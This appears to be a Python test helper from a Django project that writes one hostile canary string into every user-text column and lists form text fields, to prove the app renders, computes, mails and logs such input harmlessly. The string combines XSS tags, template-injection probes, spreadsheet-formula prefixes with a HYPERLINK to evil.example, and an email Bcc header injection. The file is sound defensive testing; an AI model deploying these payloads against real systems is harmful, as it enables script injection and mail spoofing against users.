"""One nasty text for every column and every field that takes what people type, found by looking at models and forms.

`poison()` writes it straight into the tables, past every check, so that what is drawn, calculated, sent and logged has
to be harmless by itself. A new text column is taken in by itself; one that holds a code and no typed text is named in
`CODES`.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from django import forms
from django.apps import apps
from django.db import IntegrityError, models, transaction
from django.db.models import Model

from lianfang.comms.models import Notice
from lianfang.foundation.crypto import EncryptedTextField

NAME = "__canary"
# A product that nobody writes: should a template calculate, it is on the page.
PRODUCT = ("7919*7907", "62615533")
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "|", "％=")
BODY = (
    f"<img src=x onerror={NAME}(1)>\"'><script>{NAME}(2)</script></textarea></title><svg onload={NAME}(3)>"
    f"{{{{{PRODUCT[0]}}}}}${{{PRODUCT[0]}}}{{% now 'Y' %}}HYPERLINK(\"http://evil.example\")"
    "\r\nBcc: x@evil.example\n\u202e\U0001f600\u2028&lt;"
)
# Columns of text that hold no typed text: keys of catalogues, paths, digests, what we name ourselves.
CODES = frozenset(
    {
        *("Unit.path", "Unit.kind", "Unit.level", "Unit.stage", "Unit.region", "Unit.time_zone", "Realm.key"),
        *("AuthorityRelation.region", "Account.password", "Account.language", "ApiToken.digest", "Grant.role"),
        *("Grant.source", "StoredFile.media_type", "StoredFile.sha256", "StoredFile.purpose", "UnitSetting.key"),
        *("NamedLook.permission", "NamedLook.subject_type", "NamedLook.request_id", "RetentionCount.item"),
        *("Receipt.source", "Receipt.body_hash", "ReaderCursor.reader", "ParkedEvent.reader", "Post.role"),
        *("Group.kind", "Guardianship.relation", "Invitation.digest", "GuardianClaim.relation", "WrongCode.source"),
        *("LinkEntry.kind", "Person.name_key", "Person.id_type", "Person.id_index", "Person.phone_index", "Place.path"),
        *("Place.kind", "NoticeSeen.version", "Consent.purpose", "Consent.notice_version", "Notice.text_key"),
        *("Notice.link", "Notice.dedupe", "DutyTerms.version", "Duty.kind", "Duty.holder_role", "Duty.period"),
        *("Duty.link", "DutyStep.role", "Delegation.role", "Decision.role", "ShiftPlan.role", "Shift.role"),
        *("RollCheck.session", "RollCheck.rules_version", "RollMark.session", "RollMark.cause", "RollMark.site"),
        *("RollMark.instrument", "EarlyLeave.cause", "EarlyLeave.site", "EarlyLeave.instrument", "HealthReport.site"),
        *("HealthReport.instrument", "HealthReport.cause", "RollSheet.session", "Report.kind", "Report.kind_version"),
        *("Report.level", "LatenessExcuse.kind", "RosterImport.mark", "RosterChange.fault", "RosterMapping.kind"),
        *("Delivery.problem", "CacheEntry.cache_key", "CacheEntry.value"),
        # Encrypted JSON of what a sheet said: poisoned by the sheet itself, in the import tests.
        *("RosterChange.raw", "RosterChange.proposed"),
    }
)
# Written once and never changed (the database refuses), and without typed text.
SEALED = ("JournalEntry", "JournalPayload", "JournalSeal", "JournalHead")


def text(turn: int, most: int | None = None, mark: str = "") -> str:
    """The nasty text, beginning like a formula of one kind or another, at most `most` signs, ending with `mark`."""
    whole = STARTS[turn % len(STARTS)] + BODY
    return (whole if most is None else whole[: max(0, most - len(mark))]) + mark


def columns() -> Iterator[tuple[type[Model], Any]]:
    """Every column of ours that holds typed text."""
    for model in apps.get_models():
        if not model.__module__.startswith("lianfang.") or model.__name__ in SEALED:
            continue
        for column in model._meta.local_concrete_fields:
            typed = isinstance(column, models.CharField | models.TextField | EncryptedTextField)
            if typed and not column.choices and f"{model.__name__}.{column.name}" not in CODES:
                yield model, column


def poison() -> dict[str, int]:
    """Write the text into every such column; returns how many rows hold it, by "Model.column"."""
    found: dict[str, int] = {}
    for turn, (model, column) in enumerate(columns()):
        for pk in list(model._base_manager.values_list("pk", flat=True)):
            mark = str(pk) if column.unique or "name" in column.name else ""
            try:
                with transaction.atomic():
                    model._base_manager.filter(pk=pk).update(**{column.attname: text(turn, column.max_length, mark)})
            except IntegrityError:
                continue
            found[f"{model.__name__}.{column.name}"] = found.get(f"{model.__name__}.{column.name}", 0) + 1
    for notice in Notice.objects.all():
        notice.params = {key: text(3) if isinstance(value, str) else value for key, value in notice.params.items()}
        notice.save(update_fields=["params"])
    return found


def form_fields() -> dict[str, list[str]]:
    """The fields of every form of ours that take text, by form."""
    found: dict[str, list[str]] = {}
    waiting: list[type[forms.BaseForm]] = list(forms.BaseForm.__subclasses__())
    while waiting:
        form = waiting.pop()
        waiting += form.__subclasses__()
        if form.__module__.startswith("lianfang."):
            taking = [name for name, f in getattr(form, "base_fields", {}).items() if isinstance(f, forms.CharField)]
            found[form.__qualname__] = taking
    return found
